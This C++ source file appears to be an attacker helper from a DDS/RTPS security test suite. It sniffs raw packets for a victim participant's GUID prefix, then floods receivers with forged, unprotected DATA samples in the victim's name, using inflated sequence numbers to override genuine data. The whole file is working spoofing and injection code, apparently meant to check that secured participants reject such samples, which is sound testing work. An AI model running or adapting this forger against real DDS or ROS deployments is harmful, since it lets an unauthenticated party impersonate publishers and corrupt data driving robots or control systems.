/// forger VICTIM RECEIVER DOMAIN: an attacker without keys that uses RTPS. Waits for an
/// announcement of the participant at address VICTIM. Then sends samples in its name, for every
/// writer that it may have, to the participants at RECEIVER: unprotected, with sequence numbers
/// beyond the genuine ones.
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

constexpr std::size_t kEthernet = 14, kUdp = 8, kPrefix = 12;
constexpr int kRounds = 100, kWriters = 8, kParticipants = 2;
constexpr int kTimeLimitS = 30;

using Prefix = std::array<unsigned char, kPrefix>;

/// The GUID prefix in the next RTPS message from `address`.
bool find_prefix(const std::string& address, Prefix& prefix) {
  const int packets = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_IP));
  in_addr from = {};
  if (packets < 0 || inet_pton(AF_INET, address.c_str(), &from) != 1) return false;
  std::array<unsigned char, 65536> packet;
  while (true) {
    const ssize_t size = recv(packets, packet.data(), packet.size(), 0);
    const std::size_t ip_header = (packet[kEthernet] & 15u) * 4;
    const unsigned char* rtps = packet.data() + kEthernet + ip_header + kUdp;
    if (size < static_cast<ssize_t>(kEthernet + ip_header + kUdp + 8 + kPrefix)) continue;
    if (std::memcmp(packet.data() + kEthernet + 12, &from, 4) != 0) continue;
    if (std::memcmp(rtps, "RTPS", 4) != 0) continue;
    std::memcpy(prefix.data(), rtps + 8, kPrefix);
    close(packets);
    return true;
  }
}

void add(std::string& message, const std::string& bytes) { message += bytes; }

template <std::size_t kSize>
std::string bytes(const char (&text)[kSize]) {
  return {text, kSize - 1};  // zeros included
}

/// A message of `sender` with one sample of its writer number `writer`, for every matching reader.
std::string make_message(const Prefix& sender, char writer, char kind) {
  std::string message = bytes("RTPS\x02\x03\x01\x0f");
  add(message, std::string(sender.begin(), sender.end()));
  std::string data = bytes("\0\0\x10\0");                 // flags, octets to inline QoS
  add(data, bytes("\0\0\0\0"));                           // any reader
  add(data, {'\0', '\0', writer, kind});                  // the writer's entity id
  add(data, bytes("\0\0\0\0\0\0\x10\0"));                 // sequence number 2^20
  add(data, bytes("\0\1\0\0") + std::string(252, '\0'));  // CDR, little endian
  add(message, bytes("\x15\x05"));                        // DATA, little endian, with payload
  add(message, {static_cast<char>(data.size() & 255), static_cast<char>(data.size() >> 8)});
  return message + data;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 4) return 2;
  alarm(kTimeLimitS);
  Prefix sender;
  sockaddr_in to = {};
  to.sin_family = AF_INET;
  const int datagrams = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (inet_pton(AF_INET, argv[2], &to.sin_addr) != 1 || !find_prefix(argv[1], sender)) return 1;
  int sent = 0;
  for (int round = 0; round < kRounds; ++round, usleep(10000))
    for (int participant = 0; participant < kParticipants; ++participant)
      for (char writer = 1; writer <= kWriters; ++writer)
        for (const char kind : {'\x02', '\x03'}) {
          to.sin_port =
              htons(static_cast<std::uint16_t>(7411 + 250 * std::atoi(argv[3]) + 2 * participant));
          const std::string message = make_message(sender, writer, kind);
          sent += sendto(datagrams, message.data(), message.size(), 0,
                         reinterpret_cast<const sockaddr*>(&to), sizeof to) > 0;
        }
  std::printf("sent %d\n", sent);
  return sent > 0 ? 0 : 1;
}
